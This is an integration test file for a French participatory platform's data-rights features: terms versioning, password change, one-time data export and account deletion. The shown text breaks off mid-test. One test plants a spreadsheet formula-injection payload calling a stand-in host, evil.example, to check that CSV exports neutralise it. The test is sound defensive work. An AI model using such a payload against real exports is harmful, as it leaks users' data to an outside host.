import JSZip from 'jszip';
import { Client } from 'pg';
import { io } from 'socket.io-client';
import { TEST_ADMIN_PASSWORD } from '../../../test/test-database';
import { errorCode, startTestApp, TestApp } from '../../../test/test-app';
import { waitUntil } from '../../../test/wait-until';
import { NotificationDispatcher } from '../notification/notification.dispatcher';
import { DataExportService } from './data-export.service';
import { DataExportWorker } from './data-export.worker';

const ME = `{ me { id email } }`;
const LOGIN = `mutation($input: LoginInput!) { login(input: $input) { token } }`;
const REGISTER = `mutation($input: RegisterInput!) { register(input: $input) { token user { id } } }`;
const CHANGE = `mutation($input: ChangePasswordInput!) { changePassword(input: $input) }`;
const DELETE = `mutation($input: DeleteMyAccountInput!) { deleteMyAccount(input: $input) }`;
const REQUEST = `mutation { requestDataExport { id status downloadPath } }`;
const EXPORTS = `{ myDataExports { id status requestedAt readyAt expiresAt downloadedAt byteSize downloadPath } }`;
const PASSWORD = 'correct horse battery';

describe('personal data rights: terms, change of password, deletion, download my data', () => {
  let t: TestApp;
  let admin: string;
  let worker: DataExportWorker;
  let dispatcher: NotificationDispatcher;
  let proposalsComponentId: string;

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.adminToken();
    worker = t.app.get(DataExportWorker);
    dispatcher = t.app.get(NotificationDispatcher);
    const [component] = await t.sql(
      `SELECT c.id FROM components c JOIN participatory_spaces s ON s.id = c.space_id WHERE s.slug = 'structuration-filiere-sante-numerique' AND c.type = 'PROPOSALS' LIMIT 1`,
    );
    proposalsComponentId = component.id;
  }, 120_000);
  afterAll(() => t.close());

  const download = (path: string, token?: string) =>
    fetch(`${t.baseUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const propose = async (token: string, title: string) => {
    const res = await t.gql(
      `mutation($input: CreateProposalInput!) { createProposal(input: $input) { id } }`,
      {
        input: {
          componentId: proposalsComponentId,
          title,
          body: 'Un texte qui explique la proposition.',
        },
      },
      token,
    );
    if (!res.data) throw new Error(JSON.stringify(res.errors));
    return res.data.createProposal.id as string;
  };
  const login = (email: string, password: string) => t.gql(LOGIN, { input: { email, password } });

  describe('terms of use and privacy notice, versioned', () => {
    it('publishes the current versions to anyone, in French', async () => {
      const res = await t.gql(`{ termsDocuments { kind version title body } }`);
      expect(
        res.data.termsDocuments.map((d: { kind: string; version: number }) => [d.kind, d.version]),
      ).toEqual([
        ['PRIVACY', 1],
        ['TERMS', 1],
      ]);
      expect(res.data.termsDocuments[0].body).toMatch(/RGPD/);
    });

    it('sign-up records the accepted versions; an outdated version is refused and nothing is written', async () => {
      const before = (await t.sql(`SELECT count(*)::int AS n FROM users`))[0].n;
      const refused = await t.gql(REGISTER, {
        input: {
          name: 'Trop tôt',
          email: 'tot@example.org',
          password: PASSWORD,
          acceptedTermsVersion: 0 + 1,
          acceptedPrivacyVersion: 2,
        },
      });
      expect(errorCode(refused)).toBe('BAD_USER_INPUT');
      expect(refused.errors![0].extensions).toMatchObject({
        field: 'terms',
        reason: 'TERMS_OUTDATED',
      });
      expect((await t.sql(`SELECT count(*)::int AS n FROM users`))[0].n).toBe(before);
      const missing = await t.gql(REGISTER, {
        input: { name: 'Sans', email: 'sans@example.org', password: PASSWORD },
      });
      expect(errorCode(missing)).toBe('BAD_USER_INPUT'); // variables that do not match the input type
      const user = await t.register('Lectrice');
      expect(
        await t.sql(
          `SELECT kind, version FROM terms_acceptances WHERE user_id = $1 ORDER BY kind`,
          [user.id],
        ),
      ).toEqual([
        { kind: 'PRIVACY', version: 1 },
        { kind: 'TERMS', version: 1 },
      ]);
      expect((await t.gql(`{ pendingTerms { kind } }`, {}, user.token)).data.pendingTerms).toEqual(
        [],
      );
    });

    it('a new version must be accepted: pendingTerms lists it until acceptTerms with the current versions', async () => {
      const user = await t.register('Relectrice');
      const participantTry = await t.gql(
        `mutation($input: PublishTermsDocumentInput!) { publishTermsDocument(input: $input) { version } }`,
        { input: { kind: 'TERMS', title: 'Conditions', body: 'Nouveau texte' } },
        user.token,
      );
      expect(errorCode(participantTry)).toBe('FORBIDDEN');
      const anonymousTry = await t.gql(
        `mutation($input: PublishTermsDocumentInput!) { publishTermsDocument(input: $input) { version } }`,
        { input: { kind: 'TERMS', title: 'Conditions', body: 'Nouveau texte' } },
      );
      expect(errorCode(anonymousTry)).toBe('UNAUTHENTICATED');
      const published = await t.gql(
        `mutation($input: PublishTermsDocumentInput!) { publishTermsDocument(input: $input) { kind version } }`,
        {
          input: {
            kind: 'TERMS',
            title: 'Conditions d’utilisation',
            body: 'Version 2 des conditions.',
          },
        },
        admin,
      );
      expect(published.data.publishTermsDocument).toEqual({ kind: 'TERMS', version: 2 });
      expect(
        (await t.gql(`{ pendingTerms { kind version } }`, {}, user.token)).data.pendingTerms,
      ).toEqual([{ kind: 'TERMS', version: 2 }]);
      const outdated = await t.gql(
        `mutation($input: AcceptTermsInput!) { acceptTerms(input: $input) { kind version } }`,
        { input: { termsVersion: 1, privacyVersion: 1 } },
        user.token,
      );
      expect(outdated.errors![0].extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        reason: 'TERMS_OUTDATED',
      });
      const accepted = await t.gql(
        `mutation($input: AcceptTermsInput!) { acceptTerms(input: $input) { kind version } }`,
        { input: { termsVersion: 2, privacyVersion: 1 } },
        user.token,
      );
      expect(accepted.data.acceptTerms).toEqual(
        expect.arrayContaining([
          { kind: 'TERMS', version: 2 },
          { kind: 'TERMS', version: 1 },
          { kind: 'PRIVACY', version: 1 },
        ]),
      );
      expect((await t.gql(`{ pendingTerms { kind } }`, {}, user.token)).data.pendingTerms).toEqual(
        [],
      );
      expect(errorCode(await t.gql(`{ pendingTerms { kind } }`))).toBe('UNAUTHENTICATED');
      // accepting again changes nothing and writes no second journal line
      const again = await t.gql(
        `mutation($input: AcceptTermsInput!) { acceptTerms(input: $input) { kind version } }`,
        { input: { termsVersion: 2, privacyVersion: 1 } },
        user.token,
      );
      expect(again.errors).toBeUndefined();
      expect(
        (
          await t.sql(
            `SELECT count(*)::int AS n FROM action_logs WHERE user_id = $1 AND action = 'accept_terms'`,
            [user.id],
          )
        )[0].n,
      ).toBe(1);
      // sign-ups now need version 2 (the helper reads the current versions)
      expect((await t.currentTermsVersions()).acceptedTermsVersion).toBe(2);
    });

    it('race: 8 simultaneous publications of one kind make 8 consecutive versions or CONFLICT, never a duplicate', async () => {
      const results = await Promise.all(
        Array.from({ length: 8 }, (_, i) =>
          t.gql(
            `mutation($input: PublishTermsDocumentInput!) { publishTermsDocument(input: $input) { version } }`,
            { input: { kind: 'PRIVACY', title: 'Confidentialité', body: `Texte ${i}` } },
            admin,
          ),
        ),
      );
      const ok = results
        .filter((r) => r.data?.publishTermsDocument)
        .map((r) => r.data.publishTermsDocument.version as number);
      expect(ok.length + results.filter((r) => errorCode(r) === 'CONFLICT').length).toBe(8);
      expect(new Set(ok).size).toBe(ok.length);
      const versions = (
        await t.sql(`SELECT version FROM terms_documents WHERE kind = 'PRIVACY' ORDER BY version`)
      ).map((r) => r.version);
      expect(versions).toEqual(Array.from({ length: versions.length }, (_, i) => i + 1));
    });

    it('race: 6 publications written from the same current version (expectedVersion): exactly one is published, the others get CONFLICT VERSION_CHANGED', async () => {
      const PUBLISH = `mutation($input: PublishTermsDocumentInput!) { publishTermsDocument(input: $input) { version } }`;
      const [current] = await t.sql(
        `SELECT max(version)::int AS v FROM terms_documents WHERE kind = 'TERMS'`,
      );
      const results = await Promise.all(
        Array.from({ length: 6 }, (_, i) =>
          t.gql(
            PUBLISH,
            {
              input: {
                kind: 'TERMS',
                title: 'Conditions',
                body: `Rédaction ${i}`,
                expectedVersion: current.v,
              },
            },
            admin,
          ),
        ),
      );
      expect(
        results.filter((r) => r.data?.publishTermsDocument?.version === current.v + 1),
      ).toHaveLength(1);
      expect(results.filter((r) => errorCode(r) === 'CONFLICT')).toHaveLength(5);
      // the same title and text again: nothing to publish
      const [now] = await t.sql(
        `SELECT title, body, version FROM terms_documents WHERE kind = 'TERMS' ORDER BY version DESC LIMIT 1`,
      );
      const same = await t.gql(
        PUBLISH,
        { input: { kind: 'TERMS', title: now.title, body: now.body } },
        admin,
      );
      expect(same.errors?.[0].extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        reason: 'UNCHANGED',
      });
      // written later from the old version: refused with its reason, nothing published
      const late = await t.gql(
        PUBLISH,
        {
          input: {
            kind: 'TERMS',
            title: 'Conditions',
            body: 'Trop tard',
            expectedVersion: current.v,
          },
        },
        admin,
      );
      expect(late.errors?.[0].extensions).toMatchObject({
        code: 'CONFLICT',
        reason: 'VERSION_CHANGED',
      });
      expect(
        (await t.sql(`SELECT max(version)::int AS v FROM terms_documents WHERE kind = 'TERMS'`))[0]
          .v,
      ).toBe(current.v + 1);
    });
  });

  describe('changePassword', () => {
    it('checks the current password, applies the password rules, revokes the other sessions and disconnects their sockets', async () => {
      const user = await t.register('Changeuse');
      const other = (await login(user.email, PASSWORD)).data.login.token as string;
      const socket = io(t.baseUrl, {
        path: '/socket.io',
        transports: ['websocket'],
        auth: { token: other },
        reconnection: false,
        forceNew: true,
      });
      await new Promise((resolve) =>
        socket.once('connect', () => resolve(socket.timeout(20_000).emitWithAck('catchUp', null))),
      );
      const disconnected = new Promise<string>((resolve) =>
        socket.once('disconnect', (reason) => resolve(reason)),
      );
      const [hashBefore] = await t.sql(`SELECT password_hash FROM users WHERE id = $1`, [user.id]);

      const wrong = await t.gql(
        CHANGE,
        {
          input: {
            currentPassword: 'pas le bon mot de passe',
            newPassword: 'un nouveau secret solide',
          },
        },
        user.token,
      );
      expect(errorCode(wrong)).toBe('WRONG_PASSWORD');
      const weak = await t.gql(
        CHANGE,
        { input: { currentPassword: PASSWORD, newPassword: 'court' } },
        user.token,
      );
      expect(weak.errors![0].extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        field: 'newPassword',
        reason: 'tooShort',
      });
      expect((await t.sql(`SELECT password_hash FROM users WHERE id = $1`, [user.id]))[0]).toEqual(
        hashBefore,
      );
      expect((await t.gql(ME, {}, other)).data.me).not.toBeNull();
      expect(
        errorCode(
          await t.gql(CHANGE, {
            input: { currentPassword: PASSWORD, newPassword: 'un nouveau secret solide' },
          }),
        ),
      ).toBe('UNAUTHENTICATED');

      const changed = await t.gql(
        CHANGE,
        { input: { currentPassword: PASSWORD, newPassword: 'un nouveau secret solide' } },
        user.token,
      );
      expect(changed.data.changePassword).toBe(true);
      expect((await t.gql(ME, {}, user.token)).data.me.id).toBe(user.id); // the current session stays
      expect((await t.gql(ME, {}, other)).data.me).toBeNull(); // the other one is revoked
      await dispatcher.idle();
      expect(await disconnected).toBe('io server disconnect');
      socket.close();
      expect(errorCode(await login(user.email, PASSWORD))).toBe('UNAUTHENTICATED');
      expect((await login(user.email, 'un nouveau secret solide')).data.login.token).toBeTruthy();
      const [log] = await t.sql(
        `SELECT visibility, summary FROM action_logs WHERE user_id = $1 AND action = 'change_password'`,
        [user.id],
      );
      expect(log).toEqual({ visibility: 'PRIVATE', summary: 'Changement de mot de passe' });
    });

    it('race: 5 simultaneous changes from the same current password: exactly one wins', async () => {
      const user = await t.register('Pressée');
      const results = await Promise.all(
        Array.from({ length: 5 }, (_, i) =>
          t.gql(
            CHANGE,
            { input: { currentPassword: PASSWORD, newPassword: `nouveau secret numéro ${i}` } },
            user.token,
          ),
        ),
      );
      const winners = results
        .map((r, i) => (r.data?.changePassword ? i : -1))
        .filter((i) => i >= 0);
      expect(winners).toHaveLength(1);
      expect(
        results.filter((r) => ['CONFLICT', 'WRONG_PASSWORD'].includes(errorCode(r) as string)),
      ).toHaveLength(4);
      expect(
        (await login(user.email, `nouveau secret numéro ${winners[0]}`)).data.login.token,
      ).toBeTruthy();
    });

    it('race: sign-ins with the old password during a change leave no live session (found by a tester: 4 of 18 survived)', async () => {
      for (let round = 0; round < 3; round++) {
        const user = await t.register('Changée sous pression');
        const tokens: string[] = [];
        let changing = true;
        // signing in with the old password, over and over, until the change has answered
        const attacker = async () => {
          while (changing) {
            const res = await login(user.email, PASSWORD);
            if (res.data?.login?.token) tokens.push(res.data.login.token);
            else expect(errorCode(res)).toBe('UNAUTHENTICATED');
          }
        };
        const attackers = [attacker(), attacker(), attacker()];
        // the change starts once the attack is under way: a sign-in has gone through (after a
        // fixed 150 ms, a loaded machine may not have finished hashing any)
        await waitUntil(
          'a first sign-in with the old password',
          () => tokens.length,
          (n) => n > 0,
        );
        const changed = await t.gql(
          CHANGE,
          { input: { currentPassword: PASSWORD, newPassword: 'un tout nouveau secret' } },
          user.token,
        );
        changing = false;
        await Promise.all(attackers);
        expect(changed.errors).toBeUndefined();
        expect(tokens.length).toBeGreaterThan(0);
        const alive = (await Promise.all(tokens.map((token) => t.gql(ME, {}, token)))).filter(
          (r) => r.data?.me,
        );
        expect({ round, alive: alive.length }).toEqual({ round, alive: 0 });
        expect((await t.gql(ME, {}, user.token)).data.me.id).toBe(user.id); // the changer's session stays
      }
    });
  });

  describe('download my data', () => {
    it('race: 10 simultaneous requests leave exactly one pending export (partial unique index)', async () => {
      const user = await t.register('Demandeuse');
      const results = await Promise.all(
        Array.from({ length: 10 }, () => t.gql(REQUEST, {}, user.token)),
      );
      expect(results.filter((r) => r.data?.requestDataExport?.status === 'PENDING')).toHaveLength(
        1,
      );
      const conflicts = results.filter((r) => errorCode(r) === 'CONFLICT');
      expect(conflicts).toHaveLength(9);
      expect(conflicts[0].errors![0].extensions!.reason).toBe('EXPORT_PENDING');
      expect(
        (
          await t.sql(`SELECT count(*)::int AS n FROM data_exports WHERE user_id = $1`, [user.id])
        )[0].n,
      ).toBe(1);
      expect(errorCode(await t.gql(REQUEST))).toBe('UNAUTHENTICATED');
      expect(errorCode(await t.gql(EXPORTS))).toBe('UNAUTHENTICATED');
    });

    it('builds a ZIP of the owner’s own data in JSON and CSV, notifies the owner, and hands it over once (10 concurrent downloads: one ZIP, nine 410)', async () => {
      const user = await t.register('Camille Export');
      const stranger = await t.register('Autre personne');
      const proposalId = await propose(user.token, 'Une proposition à exporter, avec des accents');
      const strangerProposal = await propose(stranger.token, 'La proposition d’une autre personne');
      await t.gql(
        `mutation($id: ID!) { supportProposal(proposalId: $id) { id } }`,
        { id: strangerProposal },
        user.token,
      );
      await t.gql(
        `mutation($input: AddCommentInput!) { addComment(input: $input) { id } }`,
        {
          input: {
            commentableType: 'PROPOSAL',
            commentableId: strangerProposal,
            body: 'Mon commentaire, "entre guillemets", avec une virgule',
          },
        },
        user.token,
      );

      const requested = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport;
      expect(requested).toMatchObject({ status: 'PENDING', downloadPath: null });
      expect((await download(`/exports/my-data/${requested.id}.zip`, user.token)).status).toBe(409);
      await worker.idle();
      await dispatcher.idle();
      const [listed] = (await t.gql(EXPORTS, {}, user.token)).data.myDataExports;
      expect(listed).toMatchObject({
        id: requested.id,
        status: 'READY',
        downloadPath: `/exports/my-data/${requested.id}.zip`,
      });
      expect(new Date(listed.expiresAt).getTime() - new Date(listed.readyAt).getTime()).toBe(
        7 * 24 * 3600_000,
      );
      const notes = await t.sql(
        `SELECT kind, link FROM notifications WHERE user_id = $1 AND kind = 'DATA_EXPORT_READY'`,
        [user.id],
      );
      expect(notes).toEqual([{ kind: 'DATA_EXPORT_READY', link: '/mon-compte' }]);

      expect((await download(listed.downloadPath)).status).toBe(401);
      expect((await download(listed.downloadPath, stranger.token)).status).toBe(404);
      expect((await download(`/exports/my-data/not-a-uuid.zip`, user.token)).status).toBe(400);

      const responses = await Promise.all(
        Array.from({ length: 10 }, () => download(listed.downloadPath, user.token)),
      );
      const statuses = responses.map((r) => r.status).sort();
      expect(statuses).toEqual([200, ...Array(9).fill(410)]);
      const ok = responses.find((r) => r.status === 200)!;
      expect(ok.headers.get('content-type')).toBe('application/zip');
      const zip = await JSZip.loadAsync(Buffer.from(await ok.arrayBuffer()));
      const names = Object.keys(zip.files).sort();
      for (const dataset of [
        'profile',
        'proposals',
        'comments',
        'supports',
        'amendments',
        'assembly_votes',
        'survey_answers',
        'notifications',
        'follows',
        'terms_acceptances',
      ]) {
        expect(names).toEqual(expect.arrayContaining([`${dataset}.json`, `${dataset}.csv`]));
      }
      const profile = JSON.parse(await zip.file('profile.json')!.async('string'));
      expect(profile).toEqual([
        expect.objectContaining({ id: user.id, name: 'Camille Export', email: user.email }),
      ]);
      const proposals = JSON.parse(await zip.file('proposals.json')!.async('string'));
      expect(proposals.map((p: { id: string }) => p.id)).toEqual([proposalId]); // not the stranger's
      const proposalsCsv = await zip.file('proposals.csv')!.async('string');
      expect(
        proposalsCsv.startsWith('\uFEFFid,space,title,body,state,published_at,updated_at\r\n'),
      ).toBe(true);
      expect(proposalsCsv).toContain('Une proposition à exporter, avec des accents');
      const commentsCsv = await zip.file('comments.csv')!.async('string');
      expect(commentsCsv).toContain(
        '"<p>Mon commentaire, ""entre guillemets"", avec une virgule</p>"',
      ); // CSV quoting
      const supports = JSON.parse(await zip.file('supports.json')!.async('string'));
      expect(supports).toEqual([
        expect.objectContaining({ supported_type: 'PROPOSAL', supported_id: strangerProposal }),
      ]);
      const follows = JSON.parse(await zip.file('follows.json')!.async('string'));
      expect(follows.map((f: { followable_id: string }) => f.followable_id)).toEqual(
        expect.arrayContaining([proposalId]),
      );
      const terms = await zip.file('terms_acceptances.csv')!.async('string');
      expect(terms.split('\r\n')[0]).toBe('\uFEFFkind,version,accepted_at');

      const [after] = (await t.gql(EXPORTS, {}, user.token)).data.myDataExports;
      expect(after).toMatchObject({ status: 'DOWNLOADED', downloadPath: null });
      expect(
        (
          await t.sql(`SELECT content IS NULL AS gone FROM data_exports WHERE id = $1`, [
            requested.id,
          ])
        )[0].gone,
      ).toBe(true);
      expect((await download(listed.downloadPath, user.token)).status).toBe(410);
      // a new request is possible once the previous one is no longer pending
      expect((await t.gql(REQUEST, {}, user.token)).data.requestDataExport.status).toBe('PENDING');
    });

    it('HEAD never consumes the one-time download (405, Allow: GET); CSV cells that start like a formula get a leading apostrophe, JSON keeps the raw text', async () => {
      const user = await t.register('Camille Tableur');
      const stranger = await t.register('Autrice malveillante');
      const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez ici")';
      const strangerProposal = await propose(stranger.token, hyperlink);
      await t.gql(
        `mutation($id: ID!) { supportProposal(proposalId: $id) { id } }`,
        { id: strangerProposal },
        user.token,
      );
      const titles = [
        '@SUM(1+9) une proposition',
        '+33 1 23 45 67 89 à rappeler',
        '-2 points pour la santé numérique',
      ];
      for (const title of titles) await propose(user.token, title);

      const { id } = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport;
      await worker.idle();
      const path = `/exports/my-data/${id}.zip`;
      for (const token of [user.token, undefined]) {
        const head = await fetch(`${t.baseUrl}${path}`, {
          method: 'HEAD',
          headers: token ? { authorization: `Bearer ${token}` } : {},
        });
        expect([head.status, head.headers.get('allow')]).toEqual([405, 'GET']);
      }
      expect((await t.gql(EXPORTS, {}, user.token)).data.myDataExports[0]).toMatchObject({
        id,
        status: 'READY',
      });

      const ok = await download(path, user.token);
      expect(ok.status).toBe(200);
      const zip = await JSZip.loadAsync(Buffer.from(await ok.arrayBuffer()));
      const supportsCsv = await zip.file('supports.csv')!.async('string');
      expect(supportsCsv).toContain(
        `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Cliquez ici"")"`,
      );
      const proposalsCsv = await zip.file('proposals.csv')!.async('string');
      for (const title of titles) expect(proposalsCsv).toContain(`'${title}`);
      expect(proposalsCsv).not.toMatch(/(^|,)[=+@-]/m);
      const supports = JSON.parse(await zip.file('supports.json')!.async('string'));
      expect(supports.map((s: { title: string }) => s.title)).toEqual([hyperlink]);
      const proposals = JSON.parse(await zip.file('proposals.json')!.async('string'));
      expect(proposals.map((p: { title: string }) => p.title).sort()).toEqual([...titles].sort());
    });

    it('an export not downloaded within 7 days expires: 410, and its file is deleted', async () => {
      const user = await t.register('Retardataire');
      const { id } = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport;
      await worker.idle();
      await t.sql(
        `UPDATE data_exports SET ready_at = now() - interval '8 days', expires_at = now() - interval '1 day' WHERE id = $1`,
        [id],
      );
      expect((await t.gql(EXPORTS, {}, user.token)).data.myDataExports[0]).toMatchObject({
        id,
        status: 'EXPIRED',
        downloadPath: null,
      });
      expect((await download(`/exports/my-data/${id}.zip`, user.token)).status).toBe(410);
      expect(await t.app.get(DataExportService).expire()).toBeGreaterThanOrEqual(1);
      expect(
        (
          await t.sql(`SELECT status, content IS NULL AS gone FROM data_exports WHERE id = $1`, [
            id,
          ])
        )[0],
      ).toEqual({ status: 'EXPIRED', gone: true });
    });

    it('survives a restart: a pending row is built later; one locked by another process is skipped (SKIP LOCKED)', async () => {
      const user = await t.register('Patiente');
      // as left by a process that crashed before building it
      const [{ id }] = await t.sql(`INSERT INTO data_exports (user_id) VALUES ($1) RETURNING id`, [
        user.id,
      ]);
      const other = new Client({ connectionString: t.databaseUrl });
      await other.connect();
      await other.query('BEGIN');
      await other.query(`SELECT id FROM data_exports WHERE id = $1 FOR UPDATE`, [id]); // another process is building it
      await worker.idle();
      expect((await t.sql(`SELECT status FROM data_exports WHERE id = $1`, [id]))[0].status).toBe(
        'PENDING',
      );
      await other.query('ROLLBACK'); // that process died
      await other.end();
      await worker.idle();
      expect(
        (
          await t.sql(`SELECT status, byte_size > 0 AS built FROM data_exports WHERE id = $1`, [id])
        )[0],
      ).toEqual({ status: 'READY', built: true });
    });
  });

  describe('deleteMyAccount', () => {
    it('race: a deletion and an admin adding the person to the assembly (or the person asking for an export) leave no current member or export for the deleted account (found by a tester: 3 of 14)', async () => {
      const [assembly] = await t.sql(
        `SELECT id FROM participatory_spaces WHERE slug = 'assemblee-filiere-sante-numerique'`,
      );
      const ADD = `mutation($i: AddAssemblyMemberInput!) { addAssemblyMember(input: $i) { id } }`;
      for (let round = 0; round < 8; round++) {
        const user = await t.register(`Fantôme ${round}`);
        const delay = (ms: number) => new Promise((r) => setTimeout(r, ms));
        const [deleted, added, exported] = await Promise.all([
          t.gql(DELETE, { input: { password: PASSWORD } }, user.token),
          delay(round * 4).then(() =>
            t.gql(ADD, { i: { spaceId: assembly.id, email: user.email } }, admin),
          ),
          delay(round * 3).then(() => t.gql(REQUEST, {}, user.token)),
        ]);
        expect(deleted.errors).toBeUndefined();
        if (added.errors) expect(errorCode(added)).toBe('NOT_FOUND');
        if (exported.errors) expect(errorCode(exported)).toBe('UNAUTHENTICATED');
        const ghosts = await t.sql(
          `SELECT (SELECT count(*) FROM assembly_members WHERE user_id = $1 AND left_at IS NULL)::int AS members,
                  (SELECT count(*) FROM data_exports WHERE user_id = $1)::int AS exports`,
          [user.id],
        );
        expect({ round, ...ghosts[0] }).toEqual({ round, members: 0, exports: 0 });
      }
    });

    it('a wrong password changes nothing; the last organization admin cannot leave', async () => {
      const user = await t.register('Hésitante');
      const wrong = await t.gql(
        DELETE,
        { input: { password: 'pas le bon mot de passe' } },
        user.token,
      );
      expect(errorCode(wrong)).toBe('WRONG_PASSWORD');
      expect(
        (await t.sql(`SELECT email, deleted_at FROM users WHERE id = $1`, [user.id]))[0],
      ).toEqual({ email: user.email, deleted_at: null });
      expect((await t.gql(ME, {}, user.token)).data.me.id).toBe(user.id);
      expect(errorCode(await t.gql(DELETE, { input: { password: PASSWORD } }))).toBe(
        'UNAUTHENTICATED',
      );
      const adminRows = await t.sql(
        `SELECT count(*)::int AS n FROM users WHERE is_admin AND deleted_at IS NULL`,
      );
      expect(adminRows[0].n).toBe(1);
      const last = await t.gql(DELETE, { input: { password: TEST_ADMIN_PASSWORD } }, admin);
      expect(last.errors![0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'LAST_ADMIN' });
      expect((await t.gql(ME, {}, admin)).data.me.email).toBe(t.config.ADMIN_EMAIL);
    });

    it('the last admin gets CONFLICT (LAST_ADMIN); with a second admin, two simultaneous deletions leave one admin', async () => {
      const a = await t.register('Admin A');
      const b = await t.register('Admin B');
      await t.sql(`UPDATE users SET is_admin = true WHERE id IN ($1, $2)`, [a.id, b.id]);
      await t.sql(`UPDATE users SET is_admin = false WHERE email = $1`, [t.config.ADMIN_EMAIL]);
      const results = await Promise.all(
        [a, b].map((u) => t.gql(DELETE, { input: { password: PASSWORD } }, u.token)),
      );
      expect(results.filter((r) => r.data?.deleteMyAccount)).toHaveLength(1);
      expect(
        results
          .filter((r) => errorCode(r) === 'CONFLICT')
          .map((r) => r.errors![0].extensions!.reason),
      ).toEqual(['LAST_ADMIN']);
      expect(
        (
          await t.sql(`SELECT count(*)::int AS n FROM users WHERE is_admin AND deleted_at IS NULL`)
        )[0].n,
      ).toBe(1);
      await t.sql(`UPDATE users SET is_admin = true WHERE email = $1`, [t.config.ADMIN_EMAIL]);
    });

    it('removes personal data, keeps public content as "Participant supprimé", supports and votes counted, secret ballots unlinked', async () => {
      const user = await t.register('Dominique Départ');
      const other = await t.register('Restante');
      const proposalId = await propose(user.token, 'Une proposition qui restera après le départ');
      const othersProposal = await propose(
        other.token,
        'Une proposition soutenue par la personne qui part',
      );
      await t.gql(
        `mutation($id: ID!) { supportProposal(proposalId: $id) { id } }`,
        { id: othersProposal },
        user.token,
      );
      const comment = await t.gql(
        `mutation($input: AddCommentInput!) { addComment(input: $input) { id } }`,
        {
          input: {
            commentableType: 'PROPOSAL',
            commentableId: othersProposal,
            body: 'Un commentaire qui reste',
          },
        },
        user.token,
      );
      await t.gql(
        `mutation($id: ID!) { follow(followableType: PROPOSAL, followableId: $id) }`,
        { id: othersProposal },
        user.token,
      );
      await t.gql(
        `mutation($input: NotificationSettingsInput!) { updateNotificationSettings(input: $input) { emailDelivery } }`,
        { input: { emailDelivery: 'IMMEDIATE' } },
        user.token,
      );

      // an assembly where the user votes on a public and a secret motion
      const space = await t.gql(
        `mutation($input: CreateSpaceInput!) { createSpace(input: $input) { id } }`,
        {
          input: {
            type: 'ASSEMBLY',
            slug: `assemblee-depart-${Date.now()}`,
            title: 'Assemblée du départ',
            published: true,
          },
        },
        admin,
      );
      const spaceId = space.data.createSpace.id;
      const component = await t.gql(
        `mutation($input: CreateComponentInput!) { createComponent(input: $input) { id } }`,
        { input: { spaceId, type: 'MOTIONS', title: 'Motions', published: true } },
        admin,
      );
      const componentId = component.data.createComponent.id;
      expect(
        (
          await t.gql(
            `mutation($input: AddAssemblyMemberInput!) { addAssemblyMember(input: $input) { id } }`,
            { input: { spaceId, email: user.email, weight: 2, college: 'patients' } },
            admin,
          )
        ).errors,
      ).toBeUndefined();
      const motion = async (secretBallot: boolean) =>
        (
          await t.gql(
            `mutation($input: CreateMotionInput!) { createMotion(input: $input) { id } }`,
            {
              input: {
                componentId,
                title: secretBallot ? 'Motion secrète' : 'Motion publique',
                body: 'Texte',
                opensAt: new Date().toISOString(),
                closesAt: new Date(Date.now() + 3600_000).toISOString(),
                secretBallot,
              },
            },
            admin,
          )
        ).data.createMotion.id as string;
      const publicMotion = await motion(false);
      const secretMotion = await motion(true);
      for (const id of [publicMotion, secretMotion]) {
        const voted = await t.gql(
          `mutation($id: ID!) { castVote(motionId: $id, choice: FOR) { id } }`,
          { id },
          user.token,
        );
        expect(voted.errors).toBeUndefined();
      }
      const tally = async (id: string) =>
        (
          await t.gql(
            `query($id: ID!) { motion(id: $id) { tally { forWeight votersCount } } }`,
            { id },
            admin,
          )
        ).data.motion.tally;
      const talliesBefore = [await tally(publicMotion), await tally(secretMotion)];
      const ballotsBefore = await t.sql(
        `SELECT id, motion_id, choice, weight FROM motion_ballots WHERE motion_id IN ($1, $2) ORDER BY id`,
        [publicMotion, secretMotion],
      );
      const supportsBefore = (
        await t.sql(`SELECT supports_count FROM proposals WHERE id = $1`, [othersProposal])
      )[0].supports_count;

      // the export shows the public vote's option, and for the secret ballot only that a vote was cast
      const exportId = (await t.gql(REQUEST, {}, user.token)).data.requestDataExport.id;
      await worker.idle();
      const zip = await JSZip.loadAsync(
        Buffer.from(
          await (await download(`/exports/my-data/${exportId}.zip`, user.token)).arrayBuffer(),
        ),
      );
      const votes = JSON.parse(await zip.file('assembly_votes.json')!.async('string'));
      expect(
        votes
          .map((v: { motion: string; secret_ballot: boolean; choice: string | null }) => [
            v.motion,
            v.secret_ballot,
            v.choice,
          ])
          .sort(),
      ).toEqual([
        ['Motion publique', false, 'FOR'],
        ['Motion secrète', true, null],
      ]);
      expect(await zip.file('assembly_votes.csv')!.async('string')).not.toMatch(
        /Motion secrète[^\r\n]*FOR/,
      );
      await t.gql(REQUEST, {}, user.token); // a pending export, removed with the account

      const socket = io(t.baseUrl, {
        path: '/socket.io',
        transports: ['websocket'],
        auth: { token: user.token },
        reconnection: false,
        forceNew: true,
      });
      await new Promise((resolve) =>
        socket.once('connect', () => resolve(socket.timeout(20_000).emitWithAck('catchUp', null))),
      );
      const disconnected = new Promise<string>((resolve) =>
        socket.once('disconnect', (reason) => resolve(reason)),
      );
      const response = await fetch(`${t.baseUrl}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${user.token}` },
        body: JSON.stringify({ query: DELETE, variables: { input: { password: PASSWORD } } }),
      });
      expect(
        ((await response.json()) as { data: { deleteMyAccount: boolean } }).data.deleteMyAccount,
      ).toBe(true);
      expect(response.headers.get('set-cookie')).toMatch(/concerto_session=;/);
      await dispatcher.idle();
      expect(await disconnected).toBe('io server disconnect');
      socket.close();

      // personal data gone
      const [row] = await t.sql(
        `SELECT name, email, password_hash, is_admin, deleted_at IS NOT NULL AS deleted FROM users WHERE id = $1`,
        [user.id],
      );
      expect(row).toEqual({
        name: 'Participant supprimé',
        email: null,
        password_hash: null,
        is_admin: false,
        deleted: true,
      });
      for (const table of [
        'sessions',
        'follows',
        'notifications',
        'notification_settings',
